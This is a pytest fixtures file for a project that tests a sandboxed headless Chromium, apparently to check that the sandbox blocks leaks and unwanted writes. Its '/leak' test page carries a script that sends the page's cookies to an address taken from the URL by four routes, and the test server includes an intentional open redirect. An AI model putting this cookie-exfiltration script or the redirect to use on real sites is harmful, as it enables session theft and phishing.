"""Fixtures shared by all tests: the demo site, a headless system Chromium, and databases (a SQLite file,
or a fresh database on a private PostgreSQL server started once per session)."""

from __future__ import annotations

import glob
import os
import shlex
import shutil
import signal
import socket
import socketserver
import subprocess
import tempfile
import threading
import time
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest

from hybrid.config import find_chromium
from hybrid.demo import DemoSite, demo_site
from sandbox.browser import DEFAULT_ARGS

# What tests need beyond Python, as markers: `-m "not browser"` leaves out every test that starts Chromium,
# and so on. A test is marked by the fixtures it uses (directly or through other fixtures), here; a module
# whose tests start kernels or browsers themselves says so with its own `pytestmark`, which may also cover
# a test of that module that does not need it (erring towards leaving a test out). `slow` tests are marked
# where they are: the slowest measured with --durations.
NEEDS_BY_FIXTURE = {
    "kernel": {"pool", "kernel_pool", "make_agent", "record_run"},
    "browser": {"chromium", "make_service", "browser_service"},
    "postgres": {"postgres_server", "postgres_url"},
}


def pytest_configure(config: pytest.Config) -> None:
    # A suite started with SIGINT ignored (`nohup ... &`) would pass that on to every subprocess, which
    # then could not be stopped with Ctrl-C as tests stop `hybrid run` and `hybrid demo serve`. With a
    # handler here, a subprocess starts with the default (exec resets handled signals, not ignored ones).
    if signal.getsignal(signal.SIGINT) is signal.SIG_IGN:
        signal.signal(signal.SIGINT, signal.default_int_handler)
    for marker, meaning in (
        ("kernel", "starts Jupyter kernels"),
        ("browser", "starts Chromium"),
        ("postgres", "starts a private PostgreSQL server"),
        ("slow", "among the slowest; -m 'not slow' is the quick inner loop"),
    ):
        config.addinivalue_line("markers", f"{marker}: {meaning}")


def pytest_collection_modifyitems(items: list[pytest.Item]) -> None:
    for item in items:
        fixtures = set(getattr(item, "fixturenames", ()))
        callspec = getattr(item, "callspec", None)
        if callspec is not None and callspec.params.get("database_url") == "postgresql":
            fixtures.add("postgres_url")  # database_url asks for it only when the test runs
        for marker, needing in NEEDS_BY_FIXTURE.items():
            if fixtures & needing:
                item.add_marker(marker)


# IPYTHONDIR: jupyter-client makes IPython's directory (~/.ipython) when it starts a kernel.
XDG_DIRECTORIES = ("XDG_DATA_HOME", "XDG_CONFIG_HOME", "XDG_CACHE_HOME", "XDG_STATE_HOME", "IPYTHONDIR")


@pytest.fixture(scope="session", autouse=True)
def private_user_directories_for_the_session(tmp_path_factory: pytest.TempPathFactory) -> Iterator[None]:
    """As `private_user_directories`, for what session fixtures do before any test runs (reading the demo
    site's spec, which caches it)."""
    user = tmp_path_factory.mktemp("session-user")
    with pytest.MonkeyPatch.context() as patch:
        for name in XDG_DIRECTORIES:
            patch.setenv(name, str(user / name.lower()))
        yield


@pytest.fixture(autouse=True)
def private_user_directories(
    tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    """No test reads or writes the user's own data, config or cache (subprocesses inherit this too)."""
    user = tmp_path_factory.mktemp("user")
    for name in XDG_DIRECTORIES:
        monkeypatch.setenv(name, str(user / name.lower()))
    for name in (
        "HYBRID_DATA_DIR",
        "HYBRID_DATABASE_URL",
        "HYBRID_CONFIG",
    ):  # the default data dir is under XDG
        monkeypatch.delenv(name, raising=False)


@pytest.fixture(scope="session")
def demo_server() -> Iterator[DemoSite]:
    with demo_site() as site:
        yield site


@pytest.fixture
def demo(demo_server: DemoSite) -> DemoSite:
    """The demo site, reset to its seed state for this test."""
    demo_server.reset()
    return demo_server


@pytest.fixture(scope="session")
def chromium():
    from playwright.sync_api import sync_playwright

    executable = find_chromium()
    if executable is None:
        pytest.fail("No Chromium found: run ./install.sh, which installs Debian's chromium package.")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(executable), args=list(DEFAULT_ARGS))
        yield browser
        browser.close()


@pytest.fixture
def page(chromium, demo: DemoSite):
    context = chromium.new_context(base_url=demo.base_url)
    context.set_default_timeout(10_000)
    page = context.new_page()
    yield page
    context.close()


LIST_ITEMS = "".join(f"<li>Item {n}</li>" for n in range(1, 101))
PAGES = {
    "/dialog": """<title>Dialog</title><h1>Dialogs</h1>
        <button onclick="document.getElementById('out').textContent =
          confirm('Delete everything?') ? 'confirmed' : 'cancelled'">Delete</button>
        <p id="out">nothing yet</p>""",
    "/frames": """<title>Frames</title><h1>Checkout</h1>
        <iframe title="Payment" src="http://localhost:{port}/inner"></iframe>""",
    "/inner": """<h2>Card details</h2><label for="n">Card number</label><input id="n">
        <button onclick="document.getElementById('r').textContent = 'Paid with ' +
          document.getElementById('n').value">Pay</button><p id="r"></p>""",
    "/slow": "<title>Slow</title><p>Finally here</p>",
    "/late": """<title>Late</title><p id="s">Working</p><button id="dl" disabled>Download</button>
        <script>setTimeout(() => {
          document.getElementById('s').textContent = 'Report ready';
          document.getElementById('dl').disabled = false;
        }, 800)</script>""",
    "/widgets": f"""<title>Widgets</title><h1>Widgets</h1>
        <button style="display:none">Ghost</button>
        <div aria-hidden="true"><button>Decor</button></div>
        <table role="presentation"><tr><td>Laid out with a table</td></tr></table>
        <button disabled>Locked</button>
        <button onclick="this.remove()">Vanish</button>
        <button onclick="document.getElementById('menu').hidden = false">Open menu</button>
        <button onclick="document.getElementById('menu').hidden = true">Close menu</button>
        <div id="menu" hidden><a href="/widgets#chosen">Menu item</a></div>
        <label>Password <input type="password" value="hunter2"></label>
        <label><input type="checkbox" checked> Remember me</label>
        <input type="hidden" name="csrf" value="csrf-token-value">
        <button>Twin</button><button>Twin</button>
        <ul>{LIST_ITEMS}</ul>""",
    "/popup": """<title>Popup</title><a href="/slow" target="_blank">Open in new tab</a>""",
    "/script-post": """<title>Script</title><button type="button" onclick="fetch('/ping', {method: 'POST'})
          .then(r => document.getElementById('r').textContent = 'sent ' + r.status,
                () => document.getElementById('r').textContent = 'request failed')">Ping</button>
        <p id="r">idle</p>""",
    "/table-form": """<title>Table form</title><table>
        <tr><th>Field</th><th>Value</th></tr>
        <tr><td><label for="u">Username</label></td><td><input id="u"></td></tr>
        <tr><td>Newsletter</td><td><label><input type="checkbox"> Email me about updates</label></td></tr>
        <tr><td>Access</td><td><input type="radio" name="a" aria-label="Read"><input type="radio" name="a"
          aria-label="Write"></td></tr>
        <tr><td>Team</td><td><input type="checkbox" aria-label="Include team alpha"></td></tr></table>""",
    "/escaped": """<title>Escaped</title><a href="/find?q=caf%C3%A9%2C%20bar&amp;and=%26&amp;bad=%FF">Find</a>
        <a href="/files/a%5Cb?zw=a%E2%80%8Bb&amp;nb=%C2%A0">File</a>""",
    "/first": """<title>First</title><a href="/second">Second page</a>""",
    "/second": """<title>Second</title><h1>Second page</h1><a href="/first">First page</a>""",
    # Writes a page sends by each mechanism a browser has, to /ping on this server.
    "/writes": """<title>Writes</title><form method="post" action="/ping"><label for="q">Query</label>
        <input id="q" name="q"><button>Send</button>
        <button type="button" onclick="this.form.submit()">Send by script</button></form>
        <button type="button" onclick="fetch('/ping', {method: 'POST', body: 'fetch'})
          .then(() => document.getElementById('r').textContent = 'fetch sent')">Fetch</button>
        <button type="button"
          onclick="const x = new XMLHttpRequest(); x.open('POST', '/ping'); x.send('xhr')">XHR</button>
        <button type="button"
          onclick="navigator.sendBeacon('/ping', 'beacon')">Beacon</button><p id="r">idle</p>""",
    # Writes from script, whatever the key (and from events a script makes up), and a form a script submits
    # into a new window, to /ping on this server.
    "/keydown-writes": """<title>Keydown writes</title><label for="k">Keys</label><input id="k">
        <form id="f" method="post" action="/ping" target="_blank"><input type="hidden" name="q" value="popup">
        </form>
        <button type="button" onclick="document.getElementById('f').requestSubmit()">New window</button>
        <button type="button" onclick="document.getElementById('k').dispatchEvent(
          new KeyboardEvent('keydown', {key: 'Enter', shiftKey: true, bubbles: true}))">Synthetic</button>
        <script>document.getElementById('k').addEventListener('keydown', event =>
          fetch('/ping', {method: 'POST', body: 'key ' + event.key}))</script>""",
    # A form a script submits in this tab, which the site answers by sending it on (307: the same method and
    # body) to the page's ?to=, else to /ping.
    "/moved-write": """<title>Moved write</title><form id="f" method="post" action="/moved">
        <input type="hidden" name="q" value="moved"></form>
        <button type="button" onclick="const form = document.getElementById('f');
          form.action += location.search; form.submit()">Save by script</button>""",
    # Sends its cookies to the address in ?to= by every route a script has.
    "/leak": """<title>Leak</title><p>Nothing to see</p><script>
        document.cookie = "session=leaked-cookie-value; path=/";
        const to = new URLSearchParams(location.search).get("to"), data = encodeURIComponent(document.cookie);
        fetch(to + "/fetch?c=" + data, {mode: "no-cors"}).catch(() => {});
        new Image().src = to + "/img?c=" + data;
        navigator.sendBeacon(to + "/beacon", data);
        try { new WebSocket(to.replace("http", "ws") + "/socket?c=" + data); } catch (e) {}
        </script>""",
}
SLOW_SECONDS = 1.5


class OddPages:
    """The odd pages (dialogs, iframes, slow and never-finishing pages, pages that write or leak on their own)
    are served here rather than added to the demo site, which stays a realistic product."""

    def __init__(self) -> None:
        self.release = threading.Event()  # lets hanging responses end when the tests are done
        self.posts: list[str] = []  # the bodies of the POSTs received
        pages = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: object) -> None:
                pass

            def do_POST(self) -> None:
                pages.posts.append(self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode())
                if urlsplit(self.path).path == "/moved":  # on to ?to=, else to /ping
                    self.send_response(307)
                    self.send_header("Location", parse_qs(urlsplit(self.path).query).get("to", ["/ping"])[0])
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
                self._send(200, "<title>Pong</title><p>pong</p>")

            def do_GET(self) -> None:
                path = self.path.split("#")[0].split("?")[0]
                if path == "/silent":  # accepts the connection, never answers
                    pages.release.wait()
                    return
                if path == "/never":  # starts the page, never finishes it
                    self.send_response(200)
                    self.send_header("Content-Type", "text/html")
                    self.end_headers()
                    self.wfile.write(b"<title>Never</title><h1>Partial content</h1><p>More is coming")
                    self.wfile.flush()
                    pages.release.wait()
                    return
                if path == "/slow":
                    time.sleep(SLOW_SECONDS)
                if path == "/redirect":  # an open redirect, as sites' ?next= parameters often are
                    self.send_response(302)
                    self.send_header("Location", parse_qs(urlsplit(self.path).query)["to"][0])
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
                html = PAGES.get(path)
                if html is None:
                    self._send(404, "<title>Not found</title><p>No such page</p>")
                else:
                    self._send(200, html.replace("{port}", str(self.server.server_address[1])))

            def _send(self, status: int, html: str) -> None:
                body = html.encode()
                self.send_response(status)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.base_url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self._thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self._thread.start()

    def close(self) -> None:
        self.release.set()
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="session")
def pages() -> Iterator[OddPages]:
    served = OddPages()
    yield served
    served.close()


class Listener:
    """A TCP server on its own port of 127.0.0.1 that keeps whatever any connection sends it."""

    def __init__(self) -> None:
        self.received: list[bytes] = []
        listener = self

        class Handler(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                self.request.settimeout(1)
                try:
                    listener.received.append(self.request.recv(65536))
                    self.request.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                except OSError:
                    listener.received.append(b"")

        self.server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    """A listener on another local port: what a leaking page or code action would send a cookie to."""
    served = Listener()
    yield served
    served.close()


POSTGRES_START_SECONDS = 60


def _postgres_bin(name: str) -> str:
    """`initdb` or `pg_ctl` from PATH, else from Debian's /usr/lib/postgresql/<version>/bin (the newest)."""
    debian = sorted(
        glob.glob(f"/usr/lib/postgresql/*/bin/{name}"), key=lambda path: float(Path(path).parts[4])
    )
    found = shutil.which(name) or (debian[-1] if debian else None)
    if found is None:
        pytest.fail(
            f"No PostgreSQL server binaries ({name}): run ./install.sh --dev, which installs Debian's "
            "postgresql package (or: apt-get install postgresql)."
        )
    return found


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def _as_server_user(*command: str) -> list[str]:
    """PostgreSQL refuses to run as root: as root, run its binaries as the `postgres` user."""
    return ["runuser", "-u", "postgres", "--", *command] if os.geteuid() == 0 else list(command)


@pytest.fixture(scope="session")
def postgres_server() -> Iterator[str]:
    """A private PostgreSQL server on 127.0.0.1 (trust auth, its socket in its own temp dir), started once
    and stopped and removed at the end of the session; yields the URL of its `postgres` database."""
    initdb, pg_ctl = _postgres_bin("initdb"), _postgres_bin("pg_ctl")
    as_root = os.geteuid() == 0
    # As root, in /tmp: the `postgres` user must reach the dir, which TMPDIR (say under /root) may not allow.
    root = Path(tempfile.mkdtemp(prefix="hybrid-postgres-", dir="/tmp" if as_root else None))
    data, log = root / "data", root / "server.log"
    if as_root:
        shutil.chown(root, "postgres", "postgres")
    port = _free_port()

    def run(*command: str) -> None:
        done = subprocess.run(
            _as_server_user(*command),
            capture_output=True,
            text=True,
            timeout=POSTGRES_START_SECONDS + 30,
            check=False,
        )
        if done.returncode != 0:
            server_log = log.read_text() if log.exists() else ""
            pytest.fail(f"{' '.join(command[:2])} failed:\n{done.stdout}{done.stderr}{server_log}")

    try:
        run(
            initdb, "-D", str(data), "-U", "postgres", "--auth=trust", "--no-sync", "-E", "UTF8", "--locale=C"
        )
        # Durability off (a throwaway server), and a time zone that is not UTC, as many real servers have.
        options = (
            f"-c listen_addresses=127.0.0.1 -p {port} -k {root} -c fsync=off -c synchronous_commit=off "
            "-c full_page_writes=off -c max_connections=200 -c timezone=Asia/Kolkata"
        )
        stop = _as_server_user(pg_ctl, "stop", "-D", str(data), "-m", "fast", "-w", "-t", "30")
        # Should pytest die before its teardown (a hard timeout, SIGKILL), this stops the server all the same.
        after_pytest = (
            f"while kill -0 {os.getpid()} 2>/dev/null; do sleep 1; done; "
            f"{shlex.join(stop)}; rm -rf {shlex.quote(str(root))}"
        )
        watchdog = subprocess.Popen(
            ["sh", "-c", after_pytest],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        try:
            run(
                pg_ctl,
                "start",
                "-D",
                str(data),
                "-l",
                str(log),
                "-w",
                "-t",
                str(POSTGRES_START_SECONDS),
                "-o",
                options,
            )
            yield f"postgresql://postgres@127.0.0.1:{port}/postgres"
        finally:  # also after a failed or timed-out start, which may have left a postmaster behind
            subprocess.run(stop, capture_output=True, timeout=60, check=False)
            watchdog.kill()
            watchdog.wait()
    finally:
        shutil.rmtree(root, ignore_errors=True)


@pytest.fixture
def postgres_url(postgres_server: str) -> str:
    """A fresh, empty database on the session's PostgreSQL server, so tests never see each other's rows."""
    try:
        import psycopg
    except ImportError:
        pytest.fail(
            "The PostgreSQL tests need psycopg: .venv/bin/pip install -e '.[dev]' (or ./install.sh --dev)."
        )
    name = f"test_{uuid.uuid4().hex[:12]}"
    with psycopg.connect(postgres_server, autocommit=True) as connection:
        connection.execute(f"CREATE DATABASE {name}")
    return postgres_server.rsplit("/", 1)[0] + f"/{name}"


@pytest.fixture
def database_url(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    """A fresh database: a SQLite file in tmp_path, or a new PostgreSQL database for tests parametrised with
    `@pytest.mark.parametrize("database_url", ["sqlite", "postgresql"], indirect=True)`."""
    kind = getattr(request, "param", "sqlite")
    if kind == "postgresql":
        return request.getfixturevalue("postgres_url")
    assert kind == "sqlite", f"database_url is 'sqlite' or 'postgresql', not {kind!r}"
    return f"sqlite:///{tmp_path / 'db' / 'hybrid.db'}"
